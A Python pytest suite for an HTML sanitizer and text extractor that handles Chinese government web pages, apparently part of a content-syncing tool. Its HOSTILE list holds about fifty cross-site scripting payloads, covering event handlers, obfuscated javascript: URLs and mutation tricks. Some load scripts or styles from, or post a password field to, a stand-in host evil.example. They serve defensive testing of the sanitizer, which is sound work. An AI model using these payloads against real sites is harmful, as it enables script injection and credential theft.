"""Cleaning leaves nothing that runs, hides or loads from elsewhere, and text_of says what a reader sees."""

import re
import time

import pytest
from selectolax.lexbor import LexborHTMLParser

from syncd.content.clean import MAX_BYTES, clean, plain, unlink_pictures
from syncd.content.text import shown_by, text_of, title_of
from syncd.errors import ReadFailed

BASE = "https://www.gov.cn/zhengce/content/202611/content_1.htm"
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<img src=x onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img srcset='x 1x, javascript:alert(1) 2x'>",
    "<img/src=x/onerror=alert(1)//",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='  JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\u200bscript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='https://[bad'>x</a>",
    "<a href='//evil.example' onclick=alert(1) style='position:fixed;inset:0' target=_top>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>ok</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p id=x class=y name=z contenteditable>t</p>",
    "<table background=javascript:alert(1)><tr><td background=x>1</td></tr></table>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<p>\u202e\u2066gnirts\u2069</p>",
]
_ALLOWED = {"href", "title", "src", "alt", "colspan", "rowspan", "scope", "span", "start", "type", "reversed", "value"}


@pytest.mark.parametrize("payload", HOSTILE)
def test_nothing_of_a_hostile_payload_can_run(payload: str) -> None:
    cleaned = clean(f"<p>前</p>{payload}<p>后</p>", BASE)
    for node in LexborHTMLParser(cleaned.html).body.css("*"):  # type: ignore[union-attr]
        assert node.tag not in {
            "script",
            "style",
            "svg",
            "math",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "base",
            "meta",
            "link",
            "video",
            "audio",
            "template",
            "noscript",
            "textarea",
            "button",
        }
        assert set(node.attributes) <= _ALLOWED
        for name in ("href", "src"):
            assert re.match(r"https?://|mailto:", node.attributes.get(name) or "https://"), cleaned.html
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b]|<!--", cleaned.html)


def test_template_syntax_is_only_text() -> None:
    assert (
        clean("<p>{{ 7*7 }} {% raw %} [shortcode] ${7*7}</p>", BASE).html
        == "<p>{{ 7*7 }} {% raw %} [shortcode] ${7*7}</p>"
    )


def test_links_are_absolute_and_told_with_their_text() -> None:
    cleaned = clean(
        '<a href="../f/附件 1.pdf"> 附件\n1 </a><a href="#top">上</a><img data-src="a.png" src="data:," alt="图">', BASE
    )
    assert next((link.url, link.title) for link in cleaned.links) == (
        "https://www.gov.cn/zhengce/content/f/附件%201.pdf",
        "附件 1",
    )
    assert [(image.url, image.title) for image in cleaned.images] == [
        ("https://www.gov.cn/zhengce/content/202611/a.png", "图"),
    ]


def test_tables_keep_their_spans_and_lists_their_numbers() -> None:
    html = '<table><tbody><tr><td colspan="2" rowspan="3">一</td></tr></tbody></table><ol start="3"><li>甲</li></ol>'
    assert clean(html, BASE).html == html


@pytest.mark.parametrize(
    "html",
    ["<div>" * 5000, "<b>" * 5000, '<i title="<!--"><div><i title="</div>-->">' * 20000, "<div><!--</div>-->" * 5000],
)
def test_deep_nesting_is_refused_quickly(html: str) -> None:
    begun = time.process_time()
    with pytest.raises(ReadFailed) as failure:
        clean(html, BASE)
    assert failure.value.reason == "body_too_deep"
    assert failure.value.hint
    assert time.process_time() - begun < 2


def test_paragraphs_without_end_tags_are_not_deep() -> None:
    assert clean("<p>段" * 5000, BASE).html.count("<p>") == 5000


def test_too_large_a_text_is_refused_but_inlined_pictures_do_not_count() -> None:
    with pytest.raises(ReadFailed) as failure:
        clean("字" * MAX_BYTES, BASE)
    assert failure.value.reason == "body_too_large"
    assert clean(f'<p>文<img src="data:image/png;base64,{"A" * 2 * MAX_BYTES}"></p>', BASE).html == "<p>文</p>"


def test_pictures_that_could_not_be_had_become_links() -> None:
    html = '<p><img src="https://a.cn/1.png" alt="图&lt;1&gt;"><img src="https://a.cn/2.png"></p>'
    shown = unlink_pictures(html, lambda url: url.endswith("2.png"))
    assert shown == '<p><a href="https://a.cn/1.png">[图&lt;1&gt;]</a><img src="https://a.cn/2.png"></p>'
    assert unlink_pictures(html, lambda _: True) == html


def test_joiners_stay_where_a_script_needs_them() -> None:
    assert plain("中\u200d国\u200b\u202e 通知\x07\n") == "中国 通知"
    assert plain("می\u200cخواهم") == "می\u200cخواهم"


def test_text_is_one_paragraph_a_line_and_tables_cell_by_cell() -> None:
    html = (
        "<div>一<span>二</span><br>三<p>四\n  五</p><table><tr><td>六<td>七</table><ul><li>八<li>九</ul></div>"
        "<script>x</script><style>y</style><p hidden>z</p><p style='display : none'>z</p><!-- z -->"
    )
    assert text_of(html).split("\n") == ["一二", "三", "四 五", "六", "七", "八", "九"]


def test_text_of_cleaned_html_is_the_text_of_the_original() -> None:
    html = "<div class=a><p>甲&nbsp;乙&amp;丙</p><font color=red>丁</font><center>戊</center><b>己</b></div>"
    assert text_of(clean(html, BASE).html).replace("\n", "") == text_of(html).replace("\n", "")


def test_a_page_that_a_script_draws_shows_what_its_description_tells() -> None:
    page = '<meta content="题&amp;\n\n甲" name="description"><div id="app"></div><noscript>x</noscript><p>框</p>'
    assert shown_by(page, scripted=True) == "题&\n\n甲"
    assert shown_by(page) == "框", "any other page's description is no proof"
    assert shown_by('<meta name="description" content=" "><p>框</p>', scripted=True) == "框"
    assert shown_by('<meta name="description"><p>框</p>', scripted=True) == "框"


def test_the_text_of_a_deep_page_needs_no_recursion() -> None:
    assert text_of("<div>" * 3000 + "深") == "深"
    assert text_of("") == ""
    assert title_of("<title> 关于\n通知 </title><p>x") == "关于 通知"
    assert title_of("x") == ""
